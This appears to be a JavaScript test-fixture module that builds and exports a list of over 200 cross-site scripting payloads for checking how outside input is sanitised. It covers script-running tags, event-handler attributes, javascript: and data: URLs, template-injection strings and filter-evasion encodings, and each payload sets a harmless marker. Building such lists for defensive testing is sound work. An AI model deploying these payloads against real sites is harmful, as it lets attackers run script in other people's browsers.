// Texts that would run as script, were they ever taken for markup, an address or code: all set `window.__pwn`.
// For every text that comes from outside: links, files, messages.

const CODE = "window.__pwn=1";
const QUOTED = CODE.replaceAll("=", "&#61;");
const base64 = (text) => Buffer.from(text).toString("base64");

// Elements that run script without any doing of the reader.
const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<script src="data:text/javascript,${CODE}"></script>`,
  `<script src="data:text/javascript;base64,${base64(CODE)}"></script>`,
  `<script type="module">${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<img src=x onerror="${CODE}">`,
  `<img src=x onerror='${CODE}'>`,
  `<img src=x onerror=${QUOTED}>`,
  `<img/src/onerror=${CODE}>`,
  `<img src="data:image/svg+xml,x" onerror=${CODE}>`,
  `<image href=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg/onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CODE} attributeName=x to=1>`,
  `<svg><use href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>${CODE}</script></svg>`)}#x">`,
  `<svg><foreignObject><img src=x onerror=${CODE}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${CODE}></mtext></math>`,
  `<math><mglyph><style><img src=x onerror=${CODE}></style></mglyph></math>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe onload=${CODE}></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<object data="data:text/html,<script>parent.${CODE}</script>"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<body onload=${CODE}>`,
  `<body onpageshow=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}>`,
  `<textarea autofocus onfocus=${CODE}>`,
  `<button autofocus onfocus=${CODE}>`,
  `<a href=# autofocus onfocus=${CODE}>x</a>`,
  `<div tabindex=0 autofocus onfocus=${CODE}>x</div>`,
  `<details open ontoggle=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<video src=x onerror=${CODE}>`,
  `<audio src=x onerror=${CODE}>`,
  `<video autoplay onloadstart=${CODE}><source src=x></video>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<style onload=${CODE}></style>`,
  `<link rel=stylesheet href=x onerror=${CODE}>`,
  `<link rel=stylesheet href="data:text/css,x" onload=${CODE}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CODE}>x</b>`,
  `<b style="transition:color 1ms" ontransitionend=${CODE}>x</b>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<base href="javascript:${CODE}//">`,
  `<form action="javascript:${CODE}"><input type=submit autofocus></form>`,
  `<isindex action="javascript:${CODE}">`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<x onclick=${CODE}>x</x>`,
  `<dialog open onfocus=${CODE} autofocus>x</dialog>`,
  `<picture><source srcset=x><img onerror=${CODE} src=x></picture>`,
];

// What stands before an element to leave the place where text is put.
const LEAVING = ['"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</option></select>"];

// Attributes for a place inside a tag.
const ATTRIBUTES = [
  `" onfocus=${CODE} autofocus x="`,
  `' onfocus=${CODE} autofocus x='`,
  ` onfocus=${CODE} autofocus x=`,
  `" onmouseover="${CODE}" style="position:fixed;inset:0" x="`,
  `" onanimationstart="${CODE}" x="`,
  `x" srcdoc="<script>parent.${CODE}</script>" x="`,
  `x" formaction="javascript:${CODE}" x="`,
  `x" href="javascript:${CODE}" x="`,
  `\`onerror=${CODE}\``,
];

// Addresses that are code.
const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\tjavascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://%0a${CODE}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CODE}//'>`,
  `data:text/html,<script>parent.${CODE}</script>`,
  `data:text/html;base64,${base64(`<script>parent.${CODE}</script>`)}`,
  `data:text/javascript,${CODE}`,
  `vbscript:${CODE}`,
  `blob:javascript:${CODE}`,
  `//x/%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>${CODE}</script>`,
];

// For places where text is put into code, a template or a style.
const PIECES = [
  `";${CODE};//`,
  `';${CODE};//`,
  `\`;${CODE};//`,
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `{{${CODE}}}`,
  `<%= ${CODE} %>`,
  `#{${CODE}}`,
  `\\";${CODE};//`,
  `\u2028${CODE}\u2028`,
  `\u2029${CODE}\u2029`,
  `*/${CODE}/*`,
  `-->\n${CODE}//`,
  `</script><script>${CODE}</script>`,
  `expression(${CODE})`,
  `url("javascript:${CODE}")`,
  `;background:url(javascript:${CODE})`,
  `@import "javascript:${CODE}";`,
  `[].constructor.constructor("${CODE}")()`,
  `Function("${CODE}")()`,
  `eval("${CODE}")`,
  `setTimeout("${CODE}")`,
  `onerror=${CODE};throw 1`,
  `import("data:text/javascript,${CODE}")`,
];

// Names that mean something to a script, with and without markup.
const NAMES = ["__proto__", "constructor", "prototype", "toString", "innerHTML", "srcdoc", "onerror", "document", "window.__pwn=1"];

// An element written so that a reader of markup sees it and a simple filter does not.
const disguised = (element) => [
  element.replace(/^<(\w+)/, (_, tag) => `<${[...tag].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("")}`),
  element.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  element.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  element.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  element.replaceAll("<", "<\u0000"),
  element.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  `<${element}`,
  `${element.slice(0, -1)}//`,
];

/** The texts: more than 200, each once. */
export const payloads = [
  ...new Set([
    ...ELEMENTS,
    ...LEAVING.flatMap((before) => [ELEMENTS[0], ELEMENTS[4], ELEMENTS[11]].map((element) => before + element)),
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...PIECES,
    ...NAMES,
    ...[0, 4, 11, 20, 21, 28, 33].flatMap((at) => disguised(ELEMENTS[at])),
    ...ADDRESSES.slice(0, 6).flatMap((address) => [`<a href="${address}" autofocus>x</a>`, `<iframe src="${address}">`]),
  ]),
];
